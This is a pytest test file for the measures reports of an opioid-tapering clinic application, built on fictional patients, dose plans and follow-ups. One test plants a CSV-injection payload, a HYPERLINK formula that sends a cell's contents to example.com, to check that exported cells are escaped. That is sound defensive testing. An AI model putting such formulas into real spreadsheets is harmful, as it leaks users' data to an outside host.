"""The measures of a small made world, each figure worked out by hand below (docs/measures.md says how each is
counted). The records are written as rows, as the services would have left them, so that every dose and date is
one the test chose. The clinic's high-dose threshold is the default, 120 mg a day; the period is 1 January to
30 November 2026 unless a test says otherwise.

Patients (practice A: 1, 2, 3, 6; practice B: 4, 5):
1. regimen 1 Nov 2025, 200 mg. Plan A from 200: 160 from 1 Feb 2026, 120 from 1 Mar, 80 from 1 Apr, 40 from 1 May,
   0 from 1 Jun; completed 1 Jul 2026 (final 0).
2. regimen 15 Dec 2025, 150 mg. Plan B from 150: 120 from 10 Jun 2026, 90 from 10 Aug; running.
3. regimen 1 Mar 2026, 90 mg; a draft plan (never counted).
4. regimen 1 Jun 2025, 240 mg. Plan C from 240: 200 from 20 Apr 2026; stopped 10 May ("Patient moved away", final
   200). A regimen of 240 mg recorded again on 1 Sep 2026.
5. regimen 1 Feb 2026 whose OME could not be calculated.
6. regimen 20 Jan 2026, 130 mg. Plan D from 130: 110 from 1 Sep 2026; stopped 1 Oct ("Withdrawal too hard", final
   110).
Another clinic has a patient on 500 mg, a plan and an invitation: never counted here.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal

import pytest

from taper import clock
from taper.clock import CLINIC_TIMEZONE
from taper.domain.follow_up import SOWS_GOSSOP_ITEMS
from taper.domain.organisations import OrganisationKind, Role
from taper.domain.plans import PlanStatus
from taper.extensions import db
from taper.models import (
    Appointment,
    FollowUp,
    Invitation,
    Organisation,
    Patient,
    Plan,
    PlanVersion,
    PlanVersionStep,
    RecordedRegimen,
    User,
)
from taper.services import measures
from taper.services.errors import InvalidInput, NotFound, PermissionDenied
from taper.services.patients import caseload
from tests.conftest import Maker, at

START, END = date(2026, 1, 1), date(2026, 11, 30)


def local(day: date, hour: int = 10, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), CLINIC_TIMEZONE)


@dataclass
class World:
    clinic: Organisation
    pharmacist: User
    practice_a: Organisation
    practice_b: Organisation
    patients: dict[int, Patient]
    plans: dict[str, Plan]
    other_clinic: Organisation
    other_pharmacist: User


class Writer:
    """Rows as the services would have stored them."""

    def __init__(self, pharmacist: User) -> None:
        self.pharmacist = pharmacist

    def regimen(self, patient: Patient, on: date, ome: str | None, *, from_practice_record: date | None = None) -> None:
        """A regimen recorded on `on`: by the pharmacist, or imported from a practice record as it stood on
        `from_practice_record`."""
        db.session.add(RecordedRegimen(
            patient_id=patient.id, recorded_on=on, recorded_by_id=None if from_practice_record else self.pharmacist.id,
            lines=[], factor_set="fpm-2020", factor_set_version="1", formulary_version="1",
            high_dose_threshold_mg=Decimal(120), total_ome_mg_per_day=None if ome is None else Decimal(ome),
            source="practice_record" if from_practice_record else "pharmacist", source_date=from_practice_record))
        db.session.flush()

    def plan(self, patient: Patient, starting: str, steps: list[tuple[date, str]], *, status: PlanStatus,
             number: int = 1, ended_on: date | None = None, final: str | None = None, reason: str = "") -> Plan:
        plan = Plan(patient_id=patient.id, number=number, status=status, created_by_id=self.pharmacist.id,
                    ended_on=ended_on, final_ome_mg_per_day=Decimal(final) if final else None,
                    outcome_reason=reason, current_version_number=1)
        db.session.add(plan)
        db.session.flush()
        version = PlanVersion(plan_id=plan.id, number=1, request={}, schedule={"steps": []}, reason="Plan",
                              starting_ome_mg_per_day=Decimal(starting), factor_set="fpm-2020",
                              factor_set_version="1", formulary_version="1", created_by_id=self.pharmacist.id)
        db.session.add(version)
        db.session.flush()
        for index, (starts_on, ome) in enumerate(steps, start=1):
            ends_on = steps[index][0] if index < len(steps) else None
            db.session.add(PlanVersionStep(plan_version_id=version.id, number=index, starts_on=starts_on,
                                           ends_on=ends_on, ome_mg_per_day=Decimal(ome)))
        db.session.flush()
        return plan

    def follow_up(self, plan: Plan, on: date, peg: tuple[int, int, int], sows: dict[str, int | None]) -> None:
        items = {item: sows.get(item) for item in SOWS_GOSSOP_ITEMS}
        assessed = [score for score in items.values() if score is not None]
        db.session.add(FollowUp(plan_id=plan.id, held_on=on, mode="phone", duration_minutes=20, dose_taken="As planned",
                                peg=dict(zip(("pain", "enjoyment", "activity"), peg, strict=True)), sows=items,
                                sows_total=sum(assessed) if assessed else None, outcome="continue",
                                plan_version_after=1, recorded_by_id=self.pharmacist.id))
        db.session.flush()

    def appointment(self, patient: Patient, starts_at: datetime, status: str, kind: str = "follow_up") -> Appointment:
        appointment = Appointment(patient_id=patient.id, pharmacist_id=self.pharmacist.id, kind=kind,
                                  starts_at=starts_at, ends_at=starts_at.replace(minute=starts_at.minute + 20),
                                  length_minutes=20, mode="phone", status=status)
        db.session.add(appointment)
        db.session.flush()
        return appointment

    def invitation(self, patient: Patient, sent_at: datetime, answer: str | None = None,
                   appointment: Appointment | None = None) -> None:
        db.session.add(Invitation(clinic_id=patient.clinic_id, patient_id=patient.id,
                                  gp_practice_id=patient.gp_practice_id, by_letter=True, sent_by_id=self.pharmacist.id,
                                  sent_at=sent_at, answer=answer, answered_at=sent_at if answer else None,
                                  appointment_id=appointment.id if appointment else None))
        db.session.flush()


def make_world(make: Maker) -> World:
    pharmacist = make.user(Role.PHARMACIST)
    clinic = db.session.get(Organisation, pharmacist.organisation_id)
    practice_a = make.organisation(OrganisationKind.GP_PRACTICE, name="Aire Street Surgery")
    practice_b = make.organisation(OrganisationKind.GP_PRACTICE, name="Briggate Medical Centre")
    patients = {number: make.patient(pharmacist, gp_practice_id=(practice_b if number in (4, 5) else practice_a).id)
                for number in range(1, 7)}
    write = Writer(pharmacist)
    write.regimen(patients[1], date(2025, 11, 1), "200")
    plan_a = write.plan(patients[1], "200", [(date(2026, 2, 1), "160"), (date(2026, 3, 1), "120"),
                                             (date(2026, 4, 1), "80"), (date(2026, 5, 1), "40"),
                                             (date(2026, 6, 1), "0")],
                        status=PlanStatus.COMPLETED, ended_on=date(2026, 7, 1), final="0", reason="Finished")
    write.regimen(patients[2], date(2025, 12, 15), "150")
    plan_b = write.plan(patients[2], "150", [(date(2026, 6, 10), "120"), (date(2026, 8, 10), "90")],
                        status=PlanStatus.ACTIVE)
    write.regimen(patients[3], date(2026, 3, 1), "90")
    write.plan(patients[3], "90", [(date(2026, 3, 10), "80")], status=PlanStatus.DRAFT)
    write.regimen(patients[4], date(2025, 6, 1), "240")
    plan_c = write.plan(patients[4], "240", [(date(2026, 4, 20), "200")], status=PlanStatus.STOPPED,
                        ended_on=date(2026, 5, 10), final="200", reason="Patient moved away")
    write.regimen(patients[4], date(2026, 9, 1), "240")
    write.regimen(patients[5], date(2026, 2, 1), None)
    write.regimen(patients[6], date(2026, 1, 20), "130")
    plan_d = write.plan(patients[6], "130", [(date(2026, 9, 1), "110")], status=PlanStatus.STOPPED,
                        ended_on=date(2026, 10, 1), final="110", reason="Withdrawal too hard")

    write.follow_up(plan_a, date(2026, 2, 15), (7, 6, 8), {"feeling_sick": 2, "yawning": 1})
    write.follow_up(plan_a, date(2026, 6, 15), (4, 4, 4), {"feeling_sick": 1, "insomnia": 2})
    write.follow_up(plan_b, date(2026, 7, 1), (6, 6, 6), dict.fromkeys(SOWS_GOSSOP_ITEMS, 1))
    write.follow_up(plan_b, date(2026, 11, 20), (5, 5, 6), dict.fromkeys(SOWS_GOSSOP_ITEMS, 0))
    write.follow_up(plan_c, date(2026, 4, 25), (5, 5, 5), {})
    write.follow_up(plan_c, date(2026, 5, 5), (6, 6, 6), {})
    write.follow_up(plan_d, date(2026, 9, 15), (3, 3, 3), {"yawning": 1})

    write.appointment(patients[2], local(date(2026, 1, 1), 0, 0), "attended")  # the period's first minute
    write.appointment(patients[2], local(date(2026, 7, 1)), "attended", kind="extra_review")
    write.appointment(patients[4], local(date(2026, 5, 1)), "did_not_attend")
    write.appointment(patients[1], local(date(2026, 3, 2)), "cancelled")
    write.appointment(patients[2], local(date(2026, 11, 30), 23, 30), "confirmed")  # its last half hour
    write.appointment(patients[2], local(date(2025, 12, 31), 23, 30), "attended")  # before the period
    write.appointment(patients[2], local(date(2026, 12, 1), 0, 0), "attended")  # after it
    first = write.appointment(patients[3], local(date(2026, 1, 12)), "attended", kind="initial")  # not a review

    write.invitation(patients[3], local(date(2026, 1, 10)), "accepted", first)
    write.invitation(patients[6], local(date(2026, 1, 20)), "declined")
    write.invitation(patients[1], local(date(2026, 3, 5)))
    write.invitation(patients[5], local(date(2026, 3, 6)), "accepted")
    write.invitation(patients[2], local(date(2025, 12, 31), 23, 30), "accepted")  # before the period

    other_pharmacist = make.user(Role.PHARMACIST)
    other_clinic = db.session.get(Organisation, other_pharmacist.organisation_id)
    other = make.patient(other_pharmacist, gp_practice_id=practice_a.id)
    other_write = Writer(other_pharmacist)
    other_write.regimen(other, date(2025, 1, 1), "500")
    other_write.plan(other, "500", [(date(2026, 2, 1), "450")], status=PlanStatus.STOPPED, ended_on=date(2026, 3, 1),
                     final="450", reason="Elsewhere")
    other_write.invitation(other, local(date(2026, 2, 1)), "accepted")
    db.session.commit()
    return World(clinic, pharmacist, practice_a, practice_b, patients,
                 {"A": plan_a, "B": plan_b, "C": plan_c, "D": plan_d}, other_clinic, other_pharmacist)


@pytest.fixture
def world(make: Maker) -> World:
    return make_world(make)


def figures(world: World, *, start: date = START, end: date = END,
            practice: Organisation | None = None) -> measures.Measures:
    return measures.measure(clinic=world.clinic, practices=measures.practices_of(world.clinic), start=start,
                            end=end, practice_id=practice.id if practice else None)


def rows(result: measures.Measures, key: str) -> list[tuple[str, ...]]:
    return result.tables[key].rows


def test_high_doses_and_total_ome_at_the_start_and_end(world: World) -> None:
    # 1 Jan: patients 1 (200), 2 (150) and 4 (240) have regimens, all high; 3, 5 and 6 have none yet.
    # 30 Nov: 1 has plan A's final 0; 2 is on plan B's 90; 3 on 90; 4 on the 240 recorded after plan C stopped;
    # 5 not known; 6 has plan D's final 110 (later than the regimen of 20 January).
    assert rows(figures(world), "caseload") == [
        ("Start: 1 January 2026", "3", "0", "590", "3", "0"),
        ("End: 30 November 2026", "1", "0", str(0 + 90 + 90 + 240 + 110), "5", "1")]


def test_month_ends(world: World) -> None:
    table = rows(figures(world), "month-ends")
    assert [row[0] for row in table] == [f"{day} 2026" for day in (
        "31 January", "28 February", "31 March", "30 April", "31 May", "30 June", "31 July", "31 August",
        "30 September", "31 October", "30 November")]
    # 31 January: 200, 150, 240 and 6's 130 (recorded 20 January): 4 high, 720 in all.
    assert table[0] == ("31 January 2026", "4", "0", "720", "4", "0")
    # 28 February: plan A's 160, 150, 240, 130, and patient 5 not known.
    assert table[1] == ("28 February 2026", "4", "0", "680", "4", "1")
    # 31 May: plan A's 40, 150, plan C stopped on 10 May (final 200), 90 (patient 3), 130, 5 not known.
    assert table[4] == ("31 May 2026", "3", "0", str(40 + 150 + 200 + 90 + 130), "5", "1")


def test_plans_started_completed_stopped_and_why(world: World) -> None:
    result = figures(world)
    # Started: A (1 Feb), B (10 Jun), C (20 Apr), D (1 Sep); the draft never. Completed: A. Stopped: C and D.
    assert rows(result, "plans") == [("Started", "4"), ("Completed", "1"), ("Stopped", "2")]
    assert rows(result, "stop-reasons") == [("Patient moved away", "1"), ("Withdrawal too hard", "1")]


def test_median_reductions_at_3_6_and_12_months(world: World) -> None:
    # 3 months: A on 1 May, 40 (160 off 200, 80%); B on 10 Sep, 90 (60 off 150, 40%); C on 20 Jul, stopped with
    # 200 (40 off 240, 16.7%); D's 1 Dec is after the period. Medians: 60 mg, 40%.
    # 6 months: A on 1 Aug, completed with 0 (200, 100%); C on 20 Oct, the 240 recorded 1 Sep (0, 0%).
    # Medians: 100 mg and 50%. 12 months: no plan's point falls in the period.
    assert rows(figures(world), "reductions") == [
        ("3 months", "3", "60", "40%", "0"),
        ("6 months", "2", "100", "50%", "0"),
        ("12 months", "0", "not enough plans yet", "not enough plans yet", "0")]


def test_peg_and_withdrawal_changes(world: World) -> None:
    # PEG: A 7 to 4 (-3), B 6 to 5.3 (-0.7), C 5 to 6 (+1); D has one follow-up only.
    # SOWS over the items assessed at both: A feeling sick 2 to 1 (-1); B all ten, 10 to 0 (-10); C none: left out.
    assert rows(figures(world), "scores") == [
        ("PEG score (0 to 10)", "3", "6", "5.3", "-0.7", "0"),
        ("Withdrawal, SOWS-Gossop (items assessed at both)", "2", "6", "0.5", "-5.5", "1")]


def test_follow_up_attendance(world: World) -> None:
    # In the period: two attended (one an extra review), one missed, one cancelled, one confirmed; the initial
    # consultation is not a review, and those before and after the period are not counted.
    assert rows(figures(world), "attendance") == [
        ("Attended", "2"), ("Did not attend", "1"), ("Cancelled", "1"), ("Booked, not yet recorded", "1")]


def test_invitations_and_answers(world: World) -> None:
    result = figures(world)
    assert rows(result, "invitations") == [
        ("Sent", "4"), ("Accepted", "2"), ("Declined", "1"), ("Not answered yet", "1"),
        ("First consultations booked", "1")]
    by_month = rows(result, "invitations-by-month")
    assert len(by_month) == 11
    assert by_month[0] == ("January 2026", "2", "1", "1", "0")
    assert by_month[1] == ("February 2026", "0", "0", "0", "0")  # the other clinic's is not ours
    assert by_month[2] == ("March 2026", "2", "1", "0", "1")
    assert result.charts["invitations-by-month"].values["Sent"][:3] == [2, 0, 2]


def test_one_practices_patients(world: World) -> None:
    result = figures(world, practice=world.practice_a)
    assert result.practice == world.practice_a
    # Patients 1, 2, 3 and 6 only. Start: 200 and 150. End: 0, 90, 90 and 110.
    assert rows(result, "caseload") == [("Start: 1 January 2026", "2", "0", "350", "2", "0"),
                                        ("End: 30 November 2026", "0", "0", "290", "4", "0")]
    assert rows(result, "plans") == [("Started", "3"), ("Completed", "1"), ("Stopped", "1")]
    assert rows(result, "stop-reasons") == [("Withdrawal too hard", "1")]
    assert rows(result, "invitations")[:4] == [("Sent", "3"), ("Accepted", "1"), ("Declined", "1"),
                                               ("Not answered yet", "1")]
    assert rows(result, "attendance")[0] == ("Attended", "2")  # patient 2's two (patient 4's miss is practice B's)
    assert rows(result, "attendance")[1] == ("Did not attend", "0")


def test_the_period_chooses_what_is_counted(world: World) -> None:
    result = figures(world, start=date(2026, 1, 1), end=date(2026, 4, 30))
    assert rows(result, "plans") == [("Started", "2"), ("Completed", "0"), ("Stopped", "0")]  # A and C
    assert rows(result, "stop-reasons") == []
    assert rows(result, "invitations")[0] == ("Sent", "4")
    assert [row[0] for row in rows(result, "month-ends")] == ["31 January 2026", "28 February 2026",
                                                              "31 March 2026", "30 April 2026"]
    later = figures(world, start=date(2026, 5, 1), end=date(2026, 11, 30))
    assert rows(later, "plans") == [("Started", "2"), ("Completed", "1"), ("Stopped", "2")]  # B and D
    assert rows(later, "invitations")[0] == ("Sent", "0")


def test_an_imported_regimen_stands_from_the_practice_records_date(world: World, make: Maker) -> None:
    """Imported on 20 November from a record whose latest issue was 15 October: counted from 15 October, and not
    over the pharmacist's own regimen of 1 November; the people on high doses from practice records not yet
    confirmed are counted beside all those on high doses."""
    write = Writer(world.pharmacist)
    imported = make.patient(world.pharmacist, gp_practice_id=world.practice_a.id)
    write.regimen(imported, date(2026, 11, 20), "300", from_practice_record=date(2026, 10, 15))
    checked = make.patient(world.pharmacist, gp_practice_id=world.practice_a.id)
    write.regimen(checked, date(2026, 11, 1), "60")
    write.regimen(checked, date(2026, 11, 20), "400", from_practice_record=date(2026, 10, 1))
    db.session.commit()
    result = figures(world, practice=world.practice_a)
    by_day = {row[0]: row for row in rows(result, "month-ends")}
    # 30 September: neither. 31 October: 300 and 400 (both records' dates passed), both high and both from
    # practice records. 30 November: 300 (from the record) and the pharmacist's 60 (1 November, later than the
    # record of 1 October). Practice A's own: 0, 90, 90, 110 (290).
    assert by_day["30 September 2026"][1:5] == ("0", "0", str(0 + 90 + 90 + 110), "4")
    assert by_day["31 October 2026"][1:5] == ("2", "2", str(300 + 400 + 0 + 90 + 90 + 110), "6")
    assert by_day["30 November 2026"][1:5] == ("1", "1", str(300 + 60 + 290), "6")
    assert rows(result, "caseload") == [("Start: 1 January 2026", "2", "0", "350", "2", "0"),
                                        ("End: 30 November 2026", "1", "1", str(300 + 60 + 290), "6", "0")]
    assert result.tables["caseload"].headers[1:3] == (
        "People on high doses", "Of them, from practice records not yet confirmed")


def test_each_figure_that_counts_practice_records_says_so(world: World) -> None:
    result = figures(world)
    for key in ("caseload", "month-ends", "reductions"):
        counted = result.tables[key].counted
        assert ("regimens imported from practice records are included, though not yet confirmed by a pharmacist "
                "(their when-needed lines counted at their most), dated by their latest issue: so a cohort "
                "imported during the period raises the figures at the end") in counted, key
        assert ("a plan's final OME stands until a regimen recorded by a pharmacist on or after the day it ended, "
                "or a practice record with a later issue date") in counted, key


def test_every_csv_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(world: World) -> None:
    """OWASP's advice on CSV injection: a cell starting with = + - @ tab or carriage return gets a single quote
    first, in every table (a stop reason is free text; a negative median is written so too)."""
    plan = world.plans["D"]
    plan.outcome_reason = '=HYPERLINK("http://example.com/?"&A1,"Click")'
    db.session.commit()
    result = figures(world)
    assert measures.csv_rows(result.tables["stop-reasons"]) == [
        ("Reason recorded", "Plans"), ("'=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")", "1"),
        ("Patient moved away", "1")]
    assert rows(result, "stop-reasons")[0][0] == plan.outcome_reason  # the page shows the words as written
    for start in ("+", "-", "@", "\t", "\r"):
        plan.outcome_reason = f"{start}1+1"
        db.session.commit()
        assert (f"'{start}1+1", "1") in measures.csv_rows(figures(world).tables["stop-reasons"]), start
    assert measures.csv_rows(result.tables["scores"])[1][4] == "-0.7"  # PEG's median change: still a number
    plain_number = re.compile(r"-?\d+(?:\.\d+)?%?")
    for table in result.tables.values():
        for row in measures.csv_rows(table):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not plain_number.fullmatch(cell)
                           for cell in row), table.key


def test_a_period_that_cannot_be_counted_is_refused(world: World) -> None:
    with pytest.raises(InvalidInput) as refusal:
        figures(world, start=date(2026, 12, 1), end=date(2026, 12, 3))  # today is 2 December 2026
    assert "today or earlier" in refusal.value.errors["end"]
    with pytest.raises(InvalidInput) as refusal:
        figures(world, start=date(2026, 6, 2), end=date(2026, 6, 1))
    assert "start" in refusal.value.errors
    with pytest.raises(InvalidInput):
        figures(world, start=date(2020, 1, 1), end=date(2026, 6, 1))


def test_the_default_period_is_the_last_12_months() -> None:
    assert measures.default_period() == (date(2025, 12, 3), date(2026, 12, 2))


def test_scope_a_pharmacist_their_clinic_an_admin_any(world: World, make: Maker) -> None:
    assert measures.clinic_for(by=world.pharmacist, clinic_id=None) == world.clinic
    with pytest.raises(NotFound):
        measures.clinic_for(by=world.pharmacist, clinic_id=world.other_clinic.id)
    admin = make.user(Role.ADMIN)
    assert measures.clinic_for(by=admin, clinic_id=None) is None
    assert measures.clinic_for(by=admin, clinic_id=world.other_clinic.id) == world.other_clinic
    with pytest.raises(NotFound):
        measures.clinic_for(by=admin, clinic_id=world.practice_a.id)  # not a clinic
    with pytest.raises(PermissionDenied):
        measures.clinic_for(by=make.user(Role.GP), clinic_id=None)
    assert world.clinic in measures.clinics(by=admin) and world.other_clinic in measures.clinics(by=admin)
    with pytest.raises(NotFound):  # a practice none of the clinic's patients are registered with
        figures(world, practice=make.organisation(OrganisationKind.GP_PRACTICE))
    other = measures.measure(clinic=world.other_clinic, practices=measures.practices_of(world.other_clinic),
                             start=START, end=END)
    assert rows(other, "caseload")[0] == ("Start: 1 January 2026", "1", "0", "500", "1", "0")
    assert rows(other, "stop-reasons") == [("Elsewhere", "1")]


def test_a_plan_made_through_the_services_counts_as_the_patient_list_shows_it(make: Maker) -> None:
    """The end of the period is today: the OME counted is the one the patient list shows now."""
    pharmacist = make.user(Role.PHARMACIST)
    with clock.running_from(at(date(2026, 6, 1), 10)):
        patient = make.patient(pharmacist)
        make.running_plan(pharmacist, patient, start_on=date(2026, 6, 15))
    clinic = db.session.get(Organisation, pharmacist.organisation_id)
    result = measures.measure(clinic=clinic, practices=measures.practices_of(clinic), start=date(2026, 6, 1),
                              end=clock.today())
    listed = caseload(by=pharmacist).items[0]
    assert listed.ome_step is not None  # from the running plan's step in force today
    assert rows(result, "caseload")[1] == (
        "End: 2 December 2026", "1" if listed.ome_mg_per_day >= 120 else "0", "0",
        measures.number(listed.ome_mg_per_day), "1", "0")
    # Morphine MR 60 mg twice a day is 120 mg OME a day at the start, at the threshold.
    assert rows(result, "caseload")[0] == ("Start: 1 June 2026", "1", "0", "120", "1", "0")
    assert rows(result, "plans")[0] == ("Started", "1")
